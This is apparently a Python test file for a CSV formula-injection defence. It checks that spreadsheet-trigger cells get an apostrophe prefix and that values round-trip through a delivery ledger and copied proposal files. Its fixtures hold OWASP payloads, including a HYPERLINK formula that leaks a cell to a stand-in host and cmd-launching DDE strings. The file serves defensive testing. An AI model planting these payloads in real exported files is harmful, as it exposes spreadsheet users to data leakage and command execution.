"""The CSV outputs' cells (OWASP "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection):
``flows.io.neutral_cell`` and ``csv_text`` put an apostrophe before a text cell a spreadsheet
could take for a formula, leave plain numbers as they are (Decision), and the readers of CSVs
the run wrote (the delivery ledger, a Golden Knights proposal copied into the inputs) get the
values back exactly. A whole run of formula inputs: tests/flows/test_csv_run.py; that no module
writes a CSV around the helper: tests/rulebook/test_architecture.py."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from polars.testing import assert_frame_equal

from flows.io import (
    FORMULA_START,
    FORMULA_TRIGGERS,
    PLAIN_NUMBER,
    csv_text,
    neutral_cell,
    neutral_text,
    original_cell,
    original_text,
)
from flows.mail import outbox

TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=30)
"""Any text a file can hold in UTF-8 (no lone surrogate)."""


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("trigger", list(FORMULA_TRIGGERS), ids=[f"U+{ord(t):04X}" for t in FORMULA_TRIGGERS])
def test_a_cell_starting_with_a_trigger_gets_an_apostrophe(trigger):
    for value in (f"{trigger}1+1", f"{trigger}SUM(A1)", trigger, f" {trigger}cmd", f"\u3000{trigger}x",
                  f"  \t{trigger}x"):
        assert neutral_cell(value) == "'" + value, repr(value)


def test_the_owasp_examples_open_as_text():
    for value in ('=HYPERLINK("http://x.example/?leak="&A1,"Click")', "-2+3+cmd|' /C calc'!A0",
                  "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "=1+1", "\t=1+1", "\r=1+1",
                  "\n=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)"):
        assert neutral_cell(value) == "'" + value


def test_decision_a_plain_number_is_left_as_it_is():
    """Decision: ``-12``, ``+3.5``, ``-0.25`` are read by a spreadsheet as those numbers and by
    other programs as the contract (a rating change is negative): no apostrophe."""
    for value in ("-12", "+3.5", "-0.25", "0", "12", "+0", "-1234567.125"):
        assert neutral_cell(value) == value
    for value in ("-", "+", "- 3", "-1e5", "--1", "-1.", "-.5", "-1,5", "-\u0663", "-\uff11", "-12 ",
                  " -12", "-12\n", "+3.5=A1"):
        assert neutral_cell(value) == "'" + value, repr(value)  # not a plain number: text


def test_ordinary_text_and_empty_cells_are_left_as_they_are():
    for value in ("", "Naidu, Rohan", "O'Brien", "a=b", "x-1", "GK19-0001", "2024-09-16", "½",
                  "'", "'quoted", "''", "1-0", "\u200b=1"):
        assert neutral_cell(value) == value, repr(value)


def test_a_value_starting_with_an_apostrophe_before_a_trigger_gets_one_more():
    """``'=x`` opens as text already, but written as it is it would read back as ``=x``: it
    gets one more apostrophe, so that every value reads back as it was."""
    assert neutral_cell("'=x") == "''=x" and original_cell("''=x") == "'=x"
    assert neutral_cell("'' -1") == "''' -1" and original_cell("''' -1") == "'' -1"
    assert neutral_cell("'-12") == "''-12" and original_cell("''-12") == "'-12"
    assert original_cell("'-12") == "'-12"  # never written for a value: left as it is
    assert original_cell("'quoted") == "'quoted" and original_cell("'") == "'"


@settings(max_examples=500, deadline=None, derandomize=True, database=None)
@given(TEXT)
def test_property_the_mark_is_taken_off_exactly_and_never_leaves_a_formula(value):
    written = neutral_cell(value)
    assert original_cell(written) == value
    assert written in (value, "'" + value)
    assert neutral_cell(written) in (written, "'" + written)
    formula = re.match(FORMULA_START.replace("^'*", "^"), written)  # a trigger first
    assert written.startswith("'") or not formula or re.fullmatch(PLAIN_NUMBER, written)


@settings(max_examples=200, deadline=None, derandomize=True, database=None)
@given(st.lists(TEXT, min_size=1, max_size=8))
def test_property_polars_and_python_mark_the_same_cells(values):
    """``csv_text`` (polars' regex, vectorised) marks exactly the cells ``neutral_cell``
    (Python's ``re``) marks, and ``original_text`` takes the marks off."""
    frame = pl.DataFrame({"v": values}, schema={"v": pl.String})
    assert [r[0] for r in cells(csv_text(frame))[1:]] == [neutral_cell(v) for v in values]
    marked = frame.select(neutral_text(pl.col("v")).alias("v"))
    assert marked["v"].to_list() == [neutral_cell(v) for v in values]
    assert_frame_equal(marked.select(original_text(pl.col("v")).alias("v")), frame)


def test_csv_text_marks_text_columns_and_header_and_leaves_numbers_dates_and_nulls():
    frame = pl.DataFrame({
        "name": ["=HYPERLINK(\"http://x.example\",\"y\")", "Ann, \"Jr\"", None, "-", "-12"],
        "change": [-12.5, 3.0, None, -0.25, 0.0],
        "rank": [1, -2, 3, None, 5],
        "day": [None, None, None, None, None],
        "fee": [Decimal("-5.00"), None, None, None, None],
        "=cmd": ["x", "y", "z", "w", "v"],
    }, schema_overrides={"day": pl.Date, "fee": pl.Decimal(10, 2)}).with_columns(
        pl.Series("code", ["@A", "b", None, "+c", "d"], dtype=pl.Categorical))
    text = csv_text(frame)
    rows = cells(text)
    assert rows[0] == ["name", "change", "rank", "day", "fee", "'=cmd", "code"]
    assert rows[1] == ["'=HYPERLINK(\"http://x.example\",\"y\")", "-12.5", "1", "", "-5.00", "x", "'@A"]
    assert rows[2][0] == 'Ann, "Jr"' and rows[3][:3] == ["", "", "3"]
    assert rows[4][:3] == ["'-", "-0.25", ""] and rows[5][:2] == ["-12", "0.0"]
    assert '"\'=HYPERLINK(""http://x.example"",""y"")"' in text  # RFC 4180 quoting, as polars writes it
    assert csv_text(frame.select("change", "rank")) == frame.select("change", "rank").write_csv()


def test_csv_text_of_a_frame_without_rows_or_columns():
    assert csv_text(pl.DataFrame({"a": []}, schema={"a": pl.String})) == "a\n"
    assert csv_text(pl.DataFrame()) == pl.DataFrame().write_csv()


@settings(max_examples=200, deadline=None, derandomize=True, database=None)
@given(st.dictionaries(TEXT.filter(bool), st.fixed_dictionaries(
    {k: TEXT for k in outbox.FIELDS if k != "key"}), min_size=1, max_size=4))
def test_property_the_delivery_ledger_reads_back_every_value_it_was_given(tmp_path_factory, rows):
    path = tmp_path_factory.mktemp("ledger") / outbox.LEDGER
    given_rows = {k: {"key": k, **r} for k, r in rows.items()}
    outbox.write_ledger(path, given_rows)
    assert outbox.read_ledger(path) == given_rows
    with open(path, newline="", encoding="utf-8") as fh:
        on_disk = list(csv.DictReader(fh))
    assert all(v == neutral_cell(given_rows[original_cell(r["key"])][k]) for r in on_disk for k, v in r.items())


def test_the_delivery_ledger_on_disk_has_the_formulas_marked(tmp_path):
    path = tmp_path / outbox.LEDGER
    rows = {"p1": {"key": "p1", "recipient": "=1+1@x.example", "subject": "@SUM(1) — round 1",
                   "status": "pending", "attempts": 1, "reply": None}}
    outbox.write_ledger(path, rows)
    text = path.read_bytes().decode("utf-8")
    assert "\r\np1,'=1+1@x.example,'@SUM(1) — round 1,,pending,1,,,,,,,\r\n" in text
    back = outbox.read_ledger(path)["p1"]
    assert back["recipient"] == "=1+1@x.example" and back["attempts"] == "1" and back["reply"] == ""


def test_a_gk_proposal_copied_into_the_inputs_names_the_same_entries():
    """GK: the director copies office/proposed_sections.csv into sections.csv, last year's
    office/carried_forward.csv becomes carried_in.csv: read, their cells are the values the
    run wrote (without the mark); other input files are read as they are."""
    from flows.kinds.correspondence.flow import READ_BACK, read_back

    ids = ["=1+1", "-2", "'=x", "GK-1", None]
    proposal = pl.DataFrame({"stage": ["preliminary"] * 5, "section": ["P01"] * 5, "entry_id": ids})
    copied = pl.read_csv(io.StringIO(csv_text(proposal)), infer_schema=False)
    assert copied["entry_id"].to_list() == ["'=1+1", "-2", "''=x", "GK-1", None]
    raw = {name: (copied.with_row_index("line", 2), []) for name in (*READ_BACK, "entries.csv")}
    back = read_back(raw)
    for name in READ_BACK:
        assert back[name][0]["entry_id"].to_list() == ids
        assert back[name][0]["line"].to_list() == [2, 3, 4, 5, 6]
    assert back["entries.csv"][0]["entry_id"].to_list() == copied["entry_id"].to_list()
